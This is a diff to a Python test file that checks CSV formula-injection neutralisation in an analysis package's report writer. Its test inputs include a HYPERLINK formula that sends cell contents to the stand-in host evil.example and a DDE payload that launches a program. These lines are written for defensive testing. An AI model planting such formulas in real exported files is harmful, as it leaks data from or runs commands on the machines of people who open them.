@@ -1,5 +1,6 @@
-"""CSV formula injection: text cells starting with = + - @ tab or CR get a leading "'" in every
-CSV we write; numbers (also negative ones) stay numbers."""
+"""CSV formula injection: text cells starting with = + - @ tab or CR that a spreadsheet could run get a
+leading "'" in every CSV we write; numbers (also negative ones) and the lone "-" placeholder of an empty
+figure stay as they are."""
 
 from __future__ import annotations
 
@@ -10,21 +11,40 @@ import pandas as pd
 import pytest
 
 from mmanalysis import read_run, synth
-from mmanalysis.csvsafe import neutralise, safe_frame
-from mmanalysis.report import report
+from mmanalysis.csvsafe import neutralise, safe_frame, write_frame
+from mmanalysis.reader import read_runs
+from mmanalysis.report import headline, report
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "=", "-1e5x"])
+@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=", "-1e5x", "--", "- 1",
+                                  "-A1", "-cmd|' /C calc'!A0", "+-", "-\t", "\t", "\r", "@"])
 def test_formula_text_is_neutralised(text):
     assert neutralise(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", ["-3.5", "+3.5", "-1e-05", "-.5", "-inf", "3", "", "mixed", "a=b", "'=x",
-                                   -3.5, 7, None, True])
+                                   "-", "+", "-7", "-0", "+1E+3", -3.5, 7, None, True])
 def test_numbers_and_plain_text_are_left_alone(value):
     assert neutralise(value) == value
+
+
+def test_placeholder_dash_reads_back_as_a_dash(tmp_path):
+    df = pd.DataFrame({"profiler": ["-", "avr"], "runs": ["-", "=x"], "mean (us)": ["-", -1.5]})
+    write_frame(df, tmp_path / "t.csv", index=False)
+    back = pd.read_csv(tmp_path / "t.csv")
+    assert list(back["profiler"]) == ["-", "avr"] and list(back["runs"]) == ["-", "'=x"]
+    assert list(back["mean (us)"].astype(str)) == ["-", "-1.5"]
+
+
+def test_report_of_runs_without_an_experiment_says_no_profiler_not_a_quoted_dash(tmp_path):
+    runs = tmp_path / "runs"
+    synth.write_experiment(runs, "mixed-2ahead", count=30, seed=2)
+    paths = report(runs, tmp_path / "out", figures=False)
+    comp = pd.read_csv(paths["comparison"])
+    assert "'-" not in set(comp["profiler"].astype(str)) and "-" in set(comp["profiler"].astype(str))
+    assert not any("'-" in line for line in headline(read_runs(runs), comp))
 
 
 def test_safe_frame_touches_text_columns_only():
